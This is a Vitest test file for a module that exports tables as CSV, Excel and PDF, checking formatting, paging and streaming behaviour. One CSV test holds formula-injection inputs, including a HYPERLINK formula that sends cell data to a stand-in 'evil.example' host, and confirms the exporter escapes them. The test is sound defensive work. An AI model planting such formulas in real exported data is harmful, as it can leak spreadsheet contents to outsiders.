import { describe, expect, it } from 'vitest';
import { exportStream, PDF_MAX_ROWS, READ_AHEAD_BYTES, type ExportColumn, type ExportFormat } from '../../src/http/table-export.js';
import { pdfText, readWorkbook } from '../support/files.js';

interface Row {
  id: number;
  name: string;
  amountMinor: bigint;
  currency: string;
  at: Date | null;
}

const COLUMNS: Array<ExportColumn<Row>> = [
  { header: 'Id', value: (r) => r.id, pdf: true },
  { header: 'Name', value: (r) => r.name, width: 10, pdf: true },
  { header: 'Amount', value: (r) => ({ minor: r.amountMinor, currency: r.currency }), pdf: true, alignRight: true },
  { header: 'Currency', value: (r) => r.currency },
  { header: 'At', value: (r) => r.at, pdf: true },
];

async function render(format: ExportFormat, rows: Row[], chunk = 2): Promise<Buffer> {
  async function* chunks() {
    for (let i = 0; i < rows.length; i += chunk) yield rows.slice(i, i + chunk);
  }
  const parts: Buffer[] = [];
  for await (const part of exportStream(format, { title: 'Things', about: ['Filters: none'], columns: COLUMNS, rows: chunks() })) {
    parts.push(Buffer.from(part as Buffer));
  }
  return Buffer.concat(parts);
}

const AT = new Date('2026-11-30T08:15:42.123Z');
const ROWS: Row[] = [
  { id: 1, name: 'Plain', amountMinor: 1234n, currency: 'USD', at: AT },
  { id: 2, name: 'Comma, "quoted"\nnewline', amountMinor: -5n, currency: 'USD', at: null },
  { id: 3, name: 'Yen', amountMinor: 1500n, currency: 'JPY', at: AT },
  { id: 4, name: 'Dinar', amountMinor: 1234567n, currency: 'KWD', at: AT },
  { id: 5, name: 'Beyond a double', amountMinor: 123456789012345678n, currency: 'USD', at: AT },
];

describe('list downloads (CSV, Excel, PDF from one column list)', () => {
  it('CSV: the API formats, quoting where needed, empty for nothing', async () => {
    const csv = (await render('csv', ROWS)).toString('utf8');
    expect(csv.split('\n')[0]).toBe('Id,Name,Amount,Currency,At');
    expect(csv).toContain('1,Plain,12.34,USD,2026-11-30T08:15:42.123Z\n');
    expect(csv).toContain('2,"Comma, ""quoted""\nnewline",-0.05,USD,\n');
    expect(csv).toContain('3,Yen,1500,JPY,');
    expect(csv).toContain('4,Dinar,1234.567,KWD,');
    expect(csv).toContain('5,Beyond a double,1234567890123456.78,USD,');
  });

  it('CSV: text a spreadsheet would run as a formula starts with an apostrophe; amounts and numbers do not', async () => {
    const rows = ['=HYPERLINK("https://evil.example/?"&A1,"x")', '+1+1', '-2+3', '@SUM(A1)', '\t=1', 'a=b', "'quoted"].map(
      (name, i): Row => ({ id: -i, name, amountMinor: -5n, currency: 'USD', at: null }),
    );
    const csv = (await render('csv', rows)).toString('utf8').trim().split('\n').slice(1);
    expect(csv).toEqual([
      `0,"'=HYPERLINK(""https://evil.example/?""&A1,""x"")",-0.05,USD,`,
      "-1,'+1+1,-0.05,USD,",
      "-2,'-2+3,-0.05,USD,",
      "-3,'@SUM(A1),-0.05,USD,",
      "-4,'\t=1,-0.05,USD,",
      '-5,a=b,-0.05,USD,',
      "-6,'quoted,-0.05,USD,",
    ]);
  });

  it('Excel: numbers stay numbers with the currency decimals, dates are dates, an About sheet says what it holds', async () => {
    const { sheet: sheetNamed, workbook } = await readWorkbook(await render('xlsx', ROWS));
    expect(workbook.worksheets.map((s) => s.name)).toEqual(['Things', 'About']);
    const sheet = sheetNamed('Things').rows;
    expect(sheet[0]).toEqual(['Id', 'Name', 'Amount', 'Currency', 'At']);
    expect(sheet).toHaveLength(ROWS.length + 1);
    expect(sheet[1]).toEqual([1, 'Plain', 12.34, 'USD', AT]);
    expect(sheet[2]).toEqual([2, 'Comma, "quoted"\nnewline', -0.05, 'USD', null]);
    expect(sheet[3]![2]).toBe(1500);
    expect(sheet[4]![2]).toBe(1234.567);
    // Minor units beyond 2^53 would lose digits as a number: exact text instead.
    expect(sheet[5]![2]).toBe('1234567890123456.78');
    const things = workbook.getWorksheet('Things')!;
    expect(things.getCell('C2').numFmt).toBe('#,##0.00');
    expect(things.getCell('C4').numFmt).toBe('#,##0');
    expect(things.getCell('C5').numFmt).toBe('#,##0.000');
    expect(things.getCell('E2').numFmt).toBe('yyyy-mm-dd hh:mm:ss');
    expect(sheetNamed('About').rows.flat()).toEqual(['Things', 'Filters: none', 'Dates and times are in UTC.']);
  });

  it('Excel: characters XML cannot hold become U+FFFD instead of breaking the file', async () => {
    const { sheet } = await readWorkbook(await render('xlsx', [{ id: 1, name: 'bell\u0007 half\uD800 tab\tok 😀', amountMinor: 0n, currency: 'USD', at: null }]));
    expect(sheet('Things').records[0]!.Name).toBe('bell\uFFFD half\uFFFD tab\tok 😀');
  });

  it('Excel: an empty list is a header row and nothing else', async () => {
    const { sheet } = await readWorkbook(await render('xlsx', []));
    expect(sheet('Things').rows).toEqual([['Id', 'Name', 'Amount', 'Currency', 'At']]);
  });

  it('PDF: a heading, the PDF columns only, amounts as decimals, text that cannot print as "?", long text cut', async () => {
    const pdf = await render('pdf', [
      ...ROWS,
      { id: 6, name: 'Żółw 東京 café', amountMinor: 1n, currency: 'EUR', at: AT },
      { id: 7, name: 'A name far too long to fit in its narrow column at all', amountMinor: 1n, currency: 'EUR', at: AT },
    ]);
    expect(pdf.subarray(0, 5).toString()).toBe('%PDF-');
    expect(pdf.toString('latin1').trimEnd().endsWith('%%EOF')).toBe(true);
    const { texts, pages } = pdfText(pdf);
    expect(pages).toBe(1);
    expect(texts.slice(0, 3)).toEqual(['Things', 'Filters: none', 'Dates and times are in UTC.']);
    expect(texts).toEqual(expect.arrayContaining(['Id', 'Name', 'Amount', 'At', '12.34', '-0.05', '1500', '1234.567', '2026-11-30 08:15', '?ó?w ?? café']));
    expect(texts).not.toContain('Currency'); // not a PDF column
    const cut = texts.find((t) => t.startsWith('A name far'));
    expect(cut).toMatch(/…$/);
    expect(cut!.length).toBeLessThan('A name far too long to fit in its narrow column at all'.length);
    expect(texts).toContain('7 rows.');
  });

  it(`PDF: pages with the header row on each, and at most ${PDF_MAX_ROWS} rows with a pointer to the full files`, async () => {
    const many: Row[] = Array.from({ length: PDF_MAX_ROWS + 5 }, (_, i) => ({ id: i + 1, name: `Row ${i + 1}`, amountMinor: BigInt(i), currency: 'USD', at: AT }));
    const { texts, pages } = pdfText(await render('pdf', many, 1000));
    expect(pages).toBeGreaterThan(200);
    expect(texts.filter((t) => t === 'Amount')).toHaveLength(pages);
    expect(texts).toContain(`Row ${PDF_MAX_ROWS}`);
    expect(texts).not.toContain(`Row ${PDF_MAX_ROWS + 1}`);
    expect(texts).toContain('The first 10,000 rows; download the CSV or Excel file for all of them.');
    expect(texts).toContain(`Things · page ${pages}`);
  }, 60_000);

  for (const format of ['xlsx', 'pdf'] as const) {
    it(`${format}: waits for a slow reader and stops reading rows when the reader goes away`, async () => {
      let pulled = 0;
      let finished = false;
      async function* chunks() {
        try {
          for (let c = 0; c < 400; c++) {
            pulled += 1;
            yield Array.from({ length: 1000 }, (_, i): Row => ({ id: c * 1000 + i, name: `Name ${Math.random()}`, amountMinor: BigInt(i), currency: 'USD', at: AT }));
          }
        } finally {
          finished = true;
        }
      }
      const stream = exportStream(format, { title: 'Things', about: [], columns: COLUMNS, rows: chunks() });
      // Nobody reads: the writer gets at most about READ_AHEAD_BYTES ahead, then waits.
      await new Promise((resolve) => setTimeout(resolve, 1500));
      const pulledWhileUnread = pulled;
      expect(pulledWhileUnread).toBeGreaterThan(0);
      expect(pulledWhileUnread).toBeLessThan(400);
      expect(stream.readableLength).toBeGreaterThan(0);
      expect(stream.readableLength).toBeLessThan(8 * READ_AHEAD_BYTES);
      // The client goes away: no more rows are read.
      stream.destroy();
      // The writer notices within a few hundred rows (however slow the machine): wait for it, up to 10 s.
      for (let waited = 0; waited < 10_000 && !finished; waited += 10) await new Promise((resolve) => setTimeout(resolve, 10));
      expect(finished).toBe(true);
      expect(pulled).toBeLessThanOrEqual(pulledWhileUnread + 1);
    }, 20_000);
  }

  for (const format of ['xlsx', 'pdf'] as const) {
    it(`${format}: a big chunk of rows does not hold up other requests (the event loop turns every few hundred rows)`, async () => {
      const wide: Array<ExportColumn<Row>> = Array.from({ length: 4 }, () => COLUMNS).flat();
      const rows = Array.from({ length: 8000 }, (_, i): Row => ({ id: i, name: `Name ${i}`, amountMinor: BigInt(i), currency: 'USD', at: AT }));
      async function* oneChunk() {
        yield rows;
      }
      await render(format, ROWS); // loads fonts and compiles the writer's code, once per process
      // The longest time this thread went without running a 1 ms timer.
      let last = performance.now();
      let longestGapMs = 0;
      const ticker = setInterval(() => {
        const now = performance.now();
        longestGapMs = Math.max(longestGapMs, now - last);
        last = now;
      }, 1);
      const startedAt = performance.now();
      for await (const part of exportStream(format, { title: 'Things', about: [], columns: wide, rows: oneChunk() })) void part;
      const tookMs = performance.now() - startedAt;
      await new Promise((resolve) => setTimeout(resolve, 5)); // the gap that ends with the export counts too
      clearInterval(ticker);
      // Written in one go, the chunk would block the thread for nearly the whole export.
      expect(tookMs).toBeGreaterThan(200);
      expect(longestGapMs).toBeLessThan(tookMs / 3);
    }, 30_000);
  }
});
